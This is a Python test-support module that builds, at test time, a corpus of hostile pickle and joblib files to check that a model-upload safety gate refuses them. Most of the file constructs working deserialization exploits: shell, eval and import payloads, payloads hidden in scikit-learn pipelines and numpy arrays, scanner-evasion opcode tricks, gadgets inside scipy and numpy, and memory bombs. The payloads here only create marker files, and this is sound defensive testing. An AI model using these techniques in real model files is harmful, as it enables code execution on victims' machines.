"""A corpus of hostile pickle/joblib artifacts, built at test time (no committed binaries).

Every "live" artifact creates its own marker file if it is ever unpickled (with pickle.load or
joblib.load); tests/test_safety.py checks the corpus really is live in a throwaway subprocess and
that the safety gate refuses every artifact without any marker appearing; tests/test_safety_http.py
uploads every one through the admin API.

Sections: the classic payloads in every spelling (os/posix/nt, subprocess, builtins eval/exec/open/
getattr/__import__, importlib, runpy, pickle.loads, operator, functools); payloads hidden in real
scikit-learn, numpy and joblib structures (compressed, object arrays, nested pickles); STACK_GLOBAL
and memo tricks; and gadgets inside the trusted packages themselves (functions and classes of
numpy/scipy/sklearn that import, exec or spawn what the pickle names).
"""

from __future__ import annotations

import functools
import importlib
import io
import lzma
import os
import pickle
import runpy
import struct
import subprocess
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np

try:
    import lz4  # noqa: F401

    HAVE_LZ4 = True
except ImportError:
    HAVE_LZ4 = False


class Reduce:
    """Pickles as a call func(*args): the classic payload shape."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


# -- a tiny pickle assembler ----------------------------------------------------------------------
def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode: module and name as text lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """BINUNICODE opcode."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short_text(value: str) -> bytes:
    """SHORT_BINUNICODE opcode (protocol 4)."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def blob(value: bytes) -> bytes:
    """BINBYTES opcode."""
    return b"B" + struct.pack("<I", len(value)) + value


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + tup(*args) + b"R"


def program(*body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + b"".join(body) + b"."


def frame(content: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(content)) + content


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two literal strings (protocol 4)."""
    return short_text(module) + short_text(name) + b"\x93"


@dataclass
class Case:
    """One hostile artifact: `offending` must all be named by UnsafeArtifact."""

    name: str
    path: Path
    offending: frozenset[str]
    marker: Path | None  # created if the artifact is ever unpickled; None: not a code-running payload
    loader: str  # "pickle" or "joblib": how a victim would load it
    live_here: bool = True  # False: would run on another OS only
    allocates: bool = False  # marker: the unprotected load (or model code) exhausted a memory limit


def binint(value: int) -> bytes:
    """BININT opcode (signed 32-bit)."""
    return b"J" + struct.pack("<i", value)


def _joblib_bytes(obj: Any, **kwargs: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, **kwargs)
    return buffer.getvalue()


def wrapper_state(shape: tuple[int, ...], dtype: str = "f8", alignment: bool = True) -> bytes:
    """The BUILD state joblib writes for a NumpyArrayWrapper of "f8" or "O8" (protocol 2 spelling)."""
    byteorder, flags = ("|", b"K\x3f") if dtype == "O8" else ("<", b"K\x00")
    items = [
        text("subclass"),
        glob("numpy", "ndarray"),
        text("shape"),
        tup(*(b"K" + bytes([d]) for d in shape)),
        text("order"),
        text("C"),
        text("dtype"),
        call(glob("numpy", "dtype"), text(dtype), b"\x89", b"\x88"),
        tup(b"K\x03", text(byteorder), b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", flags) + b"b",
        text("allow_mmap"),
        b"\x88",
    ]
    if alignment:
        items += [text("numpy_array_alignment_bytes"), b"K\x10"]
    return b"}(" + b"".join(items) + b"u"


def build_corpus(root: Path) -> list[Case]:
    """Write the corpus under `root` (markers go to root/markers, helper code to root/lib)."""
    markers = root / "markers"
    lib = root / "lib"
    for d in (markers, lib):
        d.mkdir(parents=True, exist_ok=True)
    stub = root / "ntstub"
    stub.mkdir(exist_ok=True)
    if os.name != "nt":
        # Windows' nt module, as far as the payloads use it: on POSIX the liveness run imports this
        # stand-in (the real, built-in nt wins on Windows), so the nt cases are proven live too.
        (stub / "nt.py").write_text("from os import system, popen\n")
    cases: list[Case] = []

    def add(
        name: str,
        data: bytes,
        offending: set[str],
        loader: str = "pickle",
        live_here: bool = True,
        runs_code: bool = True,
        allocates: bool = False,
    ) -> None:
        path = root / f"{name}.{'joblib' if loader == 'joblib' else 'pkl'}"
        path.write_bytes(data)
        marker_path = markers / name if runs_code or allocates else None
        cases.append(Case(name, path, frozenset(offending), marker_path, loader, live_here, allocates))

    def marker(name: str) -> str:
        return str(markers / name)

    def touch(name: str) -> str:
        return f"touch {marker(name)}"

    def evil_module(name: str) -> str:
        module = f"maas_evil_{name}"
        (lib / f"{module}.py").write_text(f"open({marker(name)!r}, 'w').close()\n")
        return module

    # -- the classics ---------------------------------------------------------------------------
    add("os_system_global_p0", b"cos\nsystem\n(V" + touch("os_system_global_p0").encode() + b"\ntR.", {"os.system"})
    add("posix_system_p2", pickle.dumps(Reduce(os.system, touch("posix_system_p2")), 2), {"posix.system"})
    add("nt_system", program(call(glob("nt", "system"), text(touch("nt_system")))), {"nt.system"})
    add(
        "nt_system_stack_global_p5",
        b"\x80\x05" + frame(stack_global("nt", "system") + text(touch("nt_system_stack_global_p5")) + b"\x85R."),
        {"nt.system"},
    )
    add(
        "nt_popen_p0",
        b"cnt\npopen\n(V" + touch("nt_popen_p0").encode() + b"\ntR.",
        {"nt.popen"},
    )
    add("os_popen_p4", pickle.dumps(Reduce(os.popen, touch("os_popen_p4")), 4), {"os.popen"})
    add(
        "subprocess_getoutput_p2",
        pickle.dumps(Reduce(subprocess.getoutput, touch("subprocess_getoutput_p2")), 2),
        {"subprocess.getoutput"},
    )
    add(
        "subprocess_call_p0",
        pickle.dumps(Reduce(subprocess.call, ["touch", marker("subprocess_call_p0")]), 0),
        {"subprocess.call"},
    )
    add(
        "subprocess_popen_p4",
        pickle.dumps(Reduce(subprocess.Popen, ["touch", marker("subprocess_popen_p4")]), 4),
        {"subprocess.Popen"},
    )
    add(
        "subprocess_check_output_p5",
        pickle.dumps(Reduce(subprocess.check_output, ["touch", marker("subprocess_check_output_p5")]), 5),
        {"subprocess.check_output"},
    )
    add(
        "builtins_eval_p3",
        pickle.dumps(Reduce(eval, f"__import__('os').system({touch('builtins_eval_p3')!r})"), 3),
        {"builtins.eval"},
    )
    # protocol 2 writes __builtin__.exec; the unpickler maps it to builtins.exec
    add(
        "builtins_exec_p2",
        pickle.dumps(Reduce(exec, f"import os; os.system({touch('builtins_exec_p2')!r})"), 2),
        {"builtins.exec"},
    )
    add(
        "builtins_exec_stack_global_p5",
        b"\x80\x05"
        + frame(
            stack_global("builtins", "exec")
            + text(f"open({marker('builtins_exec_stack_global_p5')!r}, 'w').close()")
            + b"\x85R."
        ),
        {"builtins.exec"},
    )
    add(
        "builtins_exec_compile",
        program(
            call(
                glob("builtins", "exec"),
                call(
                    glob("builtins", "compile"),
                    text(f"open({marker('builtins_exec_compile')!r}, 'w').close()"),
                    text("<pickle>"),
                    text("exec"),
                ),
            )
        ),
        {"builtins.exec", "builtins.compile"},
    )
    add(
        "builtins_open_write",
        program(call(glob("builtins", "open"), text(marker("builtins_open_write")), text("w"))),
        {"builtins.open"},
    )
    # open in the spellings CPython and its relatives use: pickle itself writes io.open for open()
    add("io_open_p4", pickle.dumps(Reduce(open, marker("io_open_p4"), "w"), 4), {"io.open"})
    add("_io_open", program(call(glob("_io", "open"), text(marker("_io_open")), text("w"))), {"_io.open"})
    add("_io_fileio_p3", pickle.dumps(Reduce(io.FileIO, marker("_io_fileio_p3"), "w"), 3), {"_io.FileIO"})
    add("codecs_open", program(call(glob("codecs", "open"), text(marker("codecs_open")), text("w"))), {"codecs.open"})
    add(
        "posix_open",
        pickle.dumps(Reduce(os.open, marker("posix_open"), os.O_CREAT | os.O_WRONLY), 2),
        {f"{os.open.__module__}.open"},
    )
    add(
        "pathlib_write_text",
        program(
            call(
                call(
                    glob("builtins", "getattr"),
                    call(glob("pathlib", "Path"), text(marker("pathlib_write_text"))),
                    text("write_text"),
                ),
                text("ran"),
            )
        ),
        {"pathlib.Path", "builtins.getattr"},
    )
    add(
        "getattr_chain",
        program(
            call(
                call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")), text("system")),
                text(touch("getattr_chain")),
            )
        ),
        {"builtins.getattr", "builtins.__import__"},
    )
    # callables that import a module named by the pickle (importing it creates the marker)
    for case_name, module, func in [
        ("builtins_import", "builtins", "__import__"),
        ("importlib_dunder_import", "importlib", "__import__"),
        ("runpy_run_module", "runpy", "run_module"),
    ]:
        add(case_name, program(call(glob(module, func), text(evil_module(case_name)))), {f"{module}.{func}"})
    add(
        "importlib_import_module",
        pickle.dumps(Reduce(importlib.import_module, evil_module("importlib_import_module")), 4),
        {"importlib.import_module"},
    )
    script = lib / "evil_script.py"
    script.write_text(f"open({marker('runpy_run_path')!r}, 'w').close()\n")
    add("runpy_run_path", pickle.dumps(Reduce(runpy.run_path, str(script)), 4), {"runpy.run_path"})
    inner = pickle.dumps(Reduce(os.system, touch("pickle_loads_nested")))
    add("pickle_loads_nested", program(call(glob("pickle", "loads"), blob(inner))), {"pickle.loads"})
    # the inner pickle compressed: its payload is invisible to any scan, the outer names are not
    inner = pickle.dumps(Reduce(os.system, touch("pickle_loads_zlib_nested")))
    add(
        "pickle_loads_zlib_nested",
        program(call(glob("_pickle", "loads"), call(glob("zlib", "decompress"), blob(zlib.compress(inner))))),
        {"_pickle.loads", "zlib.decompress"},
    )
    inner = _joblib_bytes(Reduce(os.system, touch("joblib_load_nested_lzma")), compress=("lzma", 3))
    add(
        "joblib_load_nested_lzma",
        program(call(glob("joblib", "load"), call(glob("_io", "BytesIO"), blob(inner))), proto=4),
        {"joblib.load", "_io.BytesIO"},
    )
    inner = lzma.compress(pickle.dumps(Reduce(os.system, touch("pickle_loads_in_joblib_zlib"))))
    add(
        "pickle_loads_in_joblib_zlib",
        _joblib_bytes(Reduce(pickle.loads, Reduce(lzma.decompress, inner)), compress=("zlib", 3)),
        {"_pickle.loads", "lzma.decompress"},
        "joblib",
    )
    add(
        "operator_attrgetter",
        program(
            call(
                call(
                    call(glob("operator", "attrgetter"), text("system")),
                    call(glob("builtins", "__import__"), text("os")),
                ),
                text(touch("operator_attrgetter")),
            )
        ),
        {"operator.attrgetter", "builtins.__import__"},
    )
    add(
        "operator_methodcaller",
        program(
            call(
                call(glob("operator", "methodcaller"), text("system"), text(touch("operator_methodcaller"))),
                call(glob("builtins", "__import__"), text("os")),
            )
        ),
        {"operator.methodcaller", "builtins.__import__"},
    )
    add(
        "functools_partial",
        program(call(call(glob("functools", "partial"), glob("posix", "system"), text(touch("functools_partial"))))),
        {"functools.partial", "posix.system"},
    )
    add(
        "functools_partial_pickled",
        pickle.dumps(Reduce(functools.partial(os.system, touch("functools_partial_pickled"))), 4),
        {"functools.partial", "posix.system"},
    )

    # -- hidden in real scikit-learn / numpy / joblib structures -------------------------------
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    X = np.random.default_rng(0).normal(size=(40, 2))
    classifier = LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))

    def pipeline(name: str) -> Pipeline:
        # kw_args carries a payload that runs at load time, not only at predict time
        step = FunctionTransformer(func=os.system, kw_args={"trigger": Reduce(os.system, touch(name))})
        return Pipeline([("shell", step), ("clf", classifier)])

    add(
        "sklearn_function_transformer",
        _joblib_bytes(pipeline("sklearn_function_transformer")),
        {"posix.system"},
        "joblib",
    )
    add(
        "sklearn_function_transformer_zlib",
        _joblib_bytes(pipeline("sklearn_function_transformer_zlib"), compress=3),
        {"posix.system"},
        "joblib",
    )
    objects = np.array([os.system, Reduce(os.system, touch("numpy_object_array"))], dtype=object)
    add("numpy_object_array", _joblib_bytes({"weights": np.arange(5.0), "objs": objects}), {"posix.system"}, "joblib")
    # object arrays are nested pickles inside joblib's stream: here inside a compressed stream, and
    # holding callables of several kinds
    for method in ("zlib", "lzma", "bz2"):
        name = f"numpy_object_array_{method}"
        objects = np.array([eval, subprocess.Popen, Reduce(os.system, touch(name))], dtype=object)
        add(
            name,
            _joblib_bytes([classifier, {"weights": np.arange(5.0), "objs": objects}], compress=(method, 3)),
            {"builtins.eval", "subprocess.Popen", "posix.system"},
            "joblib",
        )
    nested = np.array(
        [np.array([Reduce(exec, f"open({marker('numpy_object_array_nested')!r}, 'w').close()")], dtype=object)],
        dtype=object,
    )
    add("numpy_object_array_nested", _joblib_bytes(nested, compress=3), {"builtins.exec"}, "joblib")
    objects = np.array([Reduce(os.system, touch("numpy_object_array_pickle"))], dtype=object)
    add("numpy_object_array_pickle", pickle.dumps(objects, 5), {"posix.system"})
    compressions = ["zlib", "gzip", "bz2", "lzma", "xz"] + (["lz4"] if HAVE_LZ4 else [])
    for method in compressions:
        name = f"joblib_{method}"
        add(name, _joblib_bytes(Reduce(os.system, touch(name)), compress=(method, 3)), {"posix.system"}, "joblib")
    add(
        "after_array_bytes",
        _joblib_bytes([np.arange(10_000.0), Reduce(os.system, touch("after_array_bytes"))]),
        {"posix.system"},
        "joblib",
    )
    # joblib reads array bytes straight from the file, after the current frame: opcodes left in the
    # frame run after the array. A scanner skipping "the bytes after BUILD" would skip the payload.
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + wrapper_state((3,)) + b"b"
    payload = call(glob("posix", "system"), text(touch("frame_smuggling"))) + b"0"
    body = frame(b"]" + wrapper + payload + b"a.")
    alignment = 16 - (len(b"\x80\x04") + len(body) + 1) % 16
    add(
        "frame_smuggling",
        b"\x80\x04" + body + bytes([alignment]) + b"\xff" * alignment + np.arange(3.0).tobytes(),
        {"posix.system"},
        "joblib",
    )

    # -- STACK_GLOBAL tricks and protocol 0 spellings ---------------------------------------
    add(
        "stack_global_memo_p4",
        b"\x80\x04"
        + short_text("os")
        + b"\x94"
        + short_text("system")
        + b"\x94"
        + b"00"
        + b"h\x00h\x01\x93"
        + text(touch("stack_global_memo_p4"))
        + b"\x85R.",
        {"os.system"},
    )
    # protocol 5, framed, the names memoised with MEMOIZE and LONG_BINPUT and fetched back across a
    # frame boundary with BINGET / LONG_BINGET
    first = short_text("posix") + b"\x94" + short_text("system") + b"r\x00\x01\x00\x00" + b"00"
    second = b"h\x00j\x00\x01\x00\x00\x93" + text(touch("stack_global_memo_p5_frames")) + b"\x85R."
    add("stack_global_memo_p5_frames", b"\x80\x05" + frame(first) + frame(second), {"posix.system"})
    add(
        "stack_global_memo_p0_put",
        b"\x80\x04"
        + b"Vbuiltins\np0\n0Veval\np1\n0g0\ng1\n\x93"
        + text(f"open({marker('stack_global_memo_p0_put')!r}, 'w').close()")
        + b"\x85R.",
        {"builtins.eval"},
    )
    add(
        "stack_global_dynamic",
        program(
            call(glob("builtins", "str"), b"C\x02os", text("ascii")),
            text("system"),
            b"\x93",
            tup(text(touch("stack_global_dynamic"))) + b"R",
            proto=4,
        ),
        {"<dynamic STACK_GLOBAL>"},
    )
    add("inst_p0", b"(V" + touch("inst_p0").encode() + b"\nios\nsystem\n.", {"os.system"})
    add(
        "python2_builtin_eval_p0",
        b"c__builtin__\neval\n(V__import__('os').system('" + touch("python2_builtin_eval_p0").encode() + b"')\ntR.",
        {"builtins.eval"},
    )

    # -- dangerous callables inside the trusted packages ------------------------------------
    npy = lib / "evil.npy"
    np.save(npy, np.array([Reduce(os.system, touch("numpy_load"))], dtype=object), allow_pickle=True)
    add("numpy_load", program(call(glob("numpy", "load"), text(str(npy)), b"N", b"\x88")), {"numpy.load"})
    add(
        "numpy_ufunc_reconstruct",
        program(
            call(
                call(glob("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")),
                text(touch("numpy_ufunc_reconstruct")),
            )
        ),
        {"numpy.core._ufunc_reconstruct"},
    )
    evil_joblib = lib / "evil.joblib"
    joblib.dump(Reduce(os.system, touch("joblib_load")), evil_joblib)
    add("joblib_load", program(call(glob("joblib", "load"), text(str(evil_joblib)))), {"joblib.load"})
    # protocol 4 resolves dotted names attribute by attribute: sklearn imports os
    add(
        "attribute_walk_sklearn_os",
        b"\x80\x04"
        + short_text("sklearn")
        + short_text("os.system")
        + b"\x93"
        + text(touch("attribute_walk_sklearn_os"))
        + b"\x85R.",
        {"sklearn.os.system"},
    )
    evil_joblib2 = lib / "evil2.joblib"
    joblib.dump(Reduce(os.system, touch("attribute_walk_joblib")), evil_joblib2)
    add(
        "attribute_walk_joblib",
        b"\x80\x04"
        + short_text("sklearn.utils.validation")
        + short_text("joblib.load")
        + b"\x93"
        + text(str(evil_joblib2))
        + b"\x85R.",
        {"sklearn.utils.validation.joblib.load"},
    )

    # -- gadgets inside the trusted packages (all names pass a plain module allow-list) ----------
    add(
        "scipy_uarray_unpickle_function",
        program(
            call(
                call(
                    glob("scipy._lib._uarray._backend", "unpickle_function"),
                    text(os.system.__module__),
                    text("system"),
                    b"N",
                ),
                text(touch("scipy_uarray_unpickle_function")),
            )
        ),
        {"scipy._lib._uarray._backend.unpickle_function", "<call of a computed value>"},
    )
    add(
        "numpy_add_newdoc_import",
        program(
            call(
                glob("numpy._core.function_base", "add_newdoc"),
                text(evil_module("numpy_add_newdoc_import")),
                text("x"),
                text("doc"),
            )
        ),
        {"numpy._core.function_base.add_newdoc"},
    )
    add(
        "scipy_clone_module_import",
        program(
            call(
                glob("scipy._lib.array_api_compat._internal", "clone_module"),
                text(evil_module("scipy_clone_module_import")),
                b"}",
            )
        ),
        {"scipy._lib.array_api_compat._internal.clone_module"},
    )
    # _nonlin_wrapper(name, jac) formats `name` into source it execs
    source = f"f(): pass\nopen({marker('scipy_nonlin_wrapper_exec')!r}, 'w').close()\ndef g"
    add(
        "scipy_nonlin_wrapper_exec",
        program(
            call(
                glob("scipy.optimize._nonlin", "_nonlin_wrapper"), text(source), glob("numpy.polynomial", "Polynomial")
            )
        ),
        {"scipy.optimize._nonlin._nonlin_wrapper"},
    )
    # rv_generic.__setstate__ execs the instance's _parse_arg_template: a real scipy distribution
    # whose state carries code, alone and inside a real scikit-learn pipeline
    add(
        "scipy_stats_setstate_exec",
        pickle.dumps(_exec_on_setstate(marker("scipy_stats_setstate_exec")), 4),
        {"scipy.stats._continuous_distns.norm_gen"},
    )
    step = FunctionTransformer(kw_args={"scale": _exec_on_setstate(marker("sklearn_pipeline_scipy_gadget"))})
    add(
        "sklearn_pipeline_scipy_gadget",
        _joblib_bytes(Pipeline([("scale", step), ("clf", classifier)]), compress=("gzip", 3)),
        {"scipy.stats._continuous_distns.norm_gen"},
        "joblib",
    )
    # not code-running payloads, refused all the same: a process pool started by a constructor,
    # and plain trusted functions called at load time (only reconstructors may be)
    add(
        "scipy_mapwrapper_pool",
        program(call(glob("scipy._lib._util", "MapWrapper"), b"K\x02")),
        {"scipy._lib._util.MapWrapper"},
        runs_code=False,
    )
    add(
        "numpy_function_called",
        program(call(glob("numpy", "add"), b"K\x01", b"K\x02")),
        {"numpy.add"},
        runs_code=False,
    )
    add(
        "numpy_random_ctor_calls_a_function",
        program(call(glob("numpy.random._pickle", "__randomstate_ctor"), text("MT19937"), glob("numpy", "add"))),
        {"numpy.add"},
        runs_code=False,
    )
    _object_judgement_cases(add, evil_module, marker)
    _allocation_cases(add, root)
    return cases


# Re-exports inside the trusted packages (found by tests/test_safety_aliases.py): every name passes
# the package allow-list, and each resolves to a denied object or a module.
ATTRGETTER = ("sklearn.feature_selection._base", "attrgetter")  # operator.attrgetter
PARTIAL = ("sklearn.utils.extmath", "partial")  # functools.partial
TYPE = ("scipy.cluster.hierarchy", "_cnode_type")  # builtins.type
IMPORTLIB = ("scipy", "_importlib")  # the importlib module


def _object_judgement_cases(add: Any, evil_module: Any, marker: Any) -> None:
    """Payloads built only from trusted names that resolve to denied objects, computed classes and
    stored callables: refused because the scan judges objects, not names."""
    attr, part, typ, imp = (f"{m}.{n}" for m, n in (ATTRGETTER, PARTIAL, TYPE, IMPORTLIB))
    import_module = call(call(glob(*ATTRGETTER), text("import_module")), glob(*IMPORTLIB))
    add(
        "alias_attrgetter_importlib",
        program(call(import_module, text(evil_module("alias_attrgetter_importlib")))),
        {attr, imp},
    )
    # a partial (via its alias) that the numpy random ctor calls while loading: import_module(name)
    add(
        "alias_partial_called_by_reconstructor",
        program(
            call(
                glob("numpy.random._pickle", "__randomstate_ctor"),
                text(evil_module("alias_partial_called_by_reconstructor")),
                call(glob(*PARTIAL), import_module),
            )
        ),
        {attr, imp, part},
    )
    # type(partial instance) is functools.partial: a computed class, instantiated with NEWOBJ and called
    computed = call(glob(*TYPE), call(glob(*PARTIAL), glob("numpy", "add")))
    add(
        "alias_type_newobj_computed_class",
        program(
            computed + tup(import_module, text(evil_module("alias_type_newobj_computed_class"))) + b"\x81" + b")R",
            proto=2,
        ),
        {typ, part, "<instantiation of a computed class>"},
    )
    # copyreg.__newobj__ of a computed class
    add(
        "newobj_reconstructor_computed_class",
        program(
            call(
                call(
                    glob("copyreg", "__newobj__"),
                    computed,
                    import_module,
                    text(evil_module("newobj_reconstructor_computed_class")),
                )
            )
        ),
        {typ, "<instantiation of a computed class>"},
    )
    # a module as a value: model code calling importlib.import_module through a stored module
    add(
        "module_object_stored",
        program(b"}", text("lib"), glob(*IMPORTLIB), b"s"),
        {imp},
        runs_code=False,
    )
    # a stored function on no safe list: the scan judges stored callables too
    add("stored_function_not_safe", program(b"]", glob("numpy", "load"), b"a"), {"numpy.load"}, runs_code=False)
    # dotted attribute paths made of protocol attribute names
    add(
        "dotted_dunder_path",
        program(call(glob(*ATTRGETTER), text("__class__.__init__.__globals__"))),
        {"<attribute name '__class__.__init__.__globals__'>", attr},
        runs_code=False,
    )


def _allocation_cases(add: Any, root: Path) -> None:
    """Tiny files that allocate gigabytes or hand out uninitialised memory when loaded."""
    # bytearray(7e9): 7 GB of zeros from a 40-byte pickle
    add(
        "bytearray_size",
        program(call(glob("builtins", "bytearray"), b"\x8a\x05" + (7_000_000_000).to_bytes(5, "little"))),
        {"<size argument 7000000000 of builtins.bytearray>"},
        runs_code=False,
        allocates=True,
    )
    # numpy.ndarray(shape): 4 MB of uninitialised memory (freed buffers of other requests) handed
    # to the model, from a 60-byte file
    add(
        "ndarray_uninitialised",
        program(call(glob("numpy", "ndarray"), tup(binint(1 << 20)), text("f4"))),
        {"numpy.ndarray"},
        runs_code=False,
        allocates=True,
    )
    add(
        "reconstruct_uninitialised",
        program(
            call(
                glob("numpy._core.multiarray", "_reconstruct"),
                glob("numpy", "ndarray"),
                tup(binint(1 << 22)),
                text("b"),
            )
        ),
        {"numpy._core.multiarray._reconstruct"},
        runs_code=False,
        allocates=True,
    )
    # memo bomb: 300 bytes referencing one string 10**9 times; np.asarray(classes_) expands it
    add(
        "memo_bomb_classes",
        _memo_bomb(),
        {"<object graph unfolding to too many references>"},
        runs_code=False,
        allocates=True,
    )
    # joblib array: a 6 MB compressed file inflating to 6 GiB of float64 zeros
    add(
        "joblib_array_inflation",
        _inflating_joblib(3 << 28),
        {"<joblib arrays too large>"},
        "joblib",
        runs_code=False,
        allocates=True,
    )


def _memo_bomb(width: int = 10, depth: int = 9) -> bytes:
    """{"classes_": L9} with L0 = [s] * 10 and L(k+1) = [Lk] * 10: 10**9 references, ~300 bytes."""
    # memo 100 holds the string; memo k holds level k
    out = text("label") + b"r" + struct.pack("<I", 100) + b"0"
    out += b"]r" + struct.pack("<I", 0) + b"(" + (b"j" + struct.pack("<I", 100)) * width + b"e0"
    for level in range(1, depth):
        out += b"]r" + struct.pack("<I", level) + b"(" + (b"j" + struct.pack("<I", level - 1)) * width + b"e0"
    return program(out + b"}" + text("classes_") + b"j" + struct.pack("<I", depth - 1) + b"s")


def _inflating_joblib(count: int) -> bytes:
    """A zlib joblib file holding one float64 array of `count` zeros, written without allocating
    or compressing it: one fully flushed deflate block of 64 MiB of zeros, repeated (a full flush
    makes blocks independent), and the adler32 of zeros computed by hand."""
    items = [
        text("subclass"),
        glob("numpy", "ndarray"),
        text("shape"),
        tup(b"\x8a\x08" + count.to_bytes(8, "little")),
        text("order"),
        text("C"),
        text("dtype"),
        call(glob("numpy", "dtype"), text("f8"), b"\x89", b"\x88"),
        tup(b"K\x03", text("<"), b"N", b"N", b"N", binint(-1), binint(-1), b"K\x00") + b"b",
        text("allow_mmap"),
        b"\x88",
    ]
    state = b"}(" + b"".join(items) + b"u"
    head = b"\x80\x02" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    chunk = 64 << 20
    assert (count * 8) % chunk == 0
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [b"\x78\xda", deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)]
    block = deflate.compress(bytes(chunk)) + deflate.flush(zlib.Z_FULL_FLUSH)
    parts += [block] * ((count * 8) // chunk)
    parts.append(deflate.compress(b".") + deflate.flush())
    checksum = zlib.adler32(head)
    low, high = checksum & 0xFFFF, checksum >> 16
    high = (high + (count * 8) * low) % 65521  # each zero byte adds the running sum to `high`
    checksum = zlib.adler32(b".", (high << 16) | low)
    parts.append(struct.pack(">I", checksum))
    return b"".join(parts)


def _exec_on_setstate(marker: str) -> Any:
    """A scipy.stats distribution whose pickled state makes __setstate__ create `marker`."""
    import scipy.stats

    dist = pickle.loads(pickle.dumps(scipy.stats.norm))  # a copy: the shared instance stays intact
    state = dist.__dict__
    for key in [k for k in state if k.startswith("__")]:  # what a plain scan of the state would flag
        del state[key]
    state["_parse_arg_template"] = f"open({marker!r}, 'w').close()\n" + state["_parse_arg_template"]
    return dist


LIVENESS_SCRIPT = """
import pickle, sys, joblib
for loader, path in zip(sys.argv[1::2], sys.argv[2::2]):
    try:
        if loader == "joblib":
            joblib.load(path)
        else:
            with open(path, "rb") as f:
                pickle.load(f)
    except BaseException:
        pass
"""


ALLOCATION_SCRIPT = """
import pickle, resource, sys, joblib, numpy as np
loader, path, marker, limit = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
size = len(open(path, "rb").read())
try:
    obj = joblib.load(path) if loader == "joblib" else pickle.load(open(path, "rb"))
    if isinstance(obj, dict) and "classes_" in obj:
        obj = np.asarray(obj["classes_"])  # what a classifier's code does with classes_
    built = getattr(obj, "nbytes", None) or len(obj)
    ran = built > 100 * size  # far more memory than the file holds: allocated, not read
except MemoryError:
    ran = True
if ran:
    open(marker, "w").close()
"""


def run_allocations_unprotected(cases: list[Case], limit: int = 384 << 20) -> None:
    """Load each allocating case unprotected in its own process, under an address-space limit of
    `limit` bytes (this machine's memory is never at stake): the marker says it allocated far more
    than its file holds, or ran out of memory trying."""
    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", MKL_NUM_THREADS="1")
    for case in cases:
        assert case.marker is not None
        subprocess.run(
            [sys.executable, "-c", ALLOCATION_SCRIPT, case.loader, str(case.path), str(case.marker), str(limit)],
            env=env,
            check=True,
            timeout=120,
        )


def payload_paths(root: Path) -> list[Path]:
    """What a victim's sys.path needs for every payload to run: the evil modules, the nt stand-in."""
    return [root / "lib", root / "ntstub"]


def run_unprotected(cases: list[Case], lib: Path) -> None:
    """Unpickle every case with plain pickle/joblib in a subprocess (to prove the corpus is live)."""
    args = [str(a) for case in cases for a in (case.loader, case.path)]
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([*map(str, payload_paths(lib.parent)), os.getcwd()]))
    subprocess.run([sys.executable, "-c", LIVENESS_SCRIPT, *args], env=env, check=True, timeout=120)
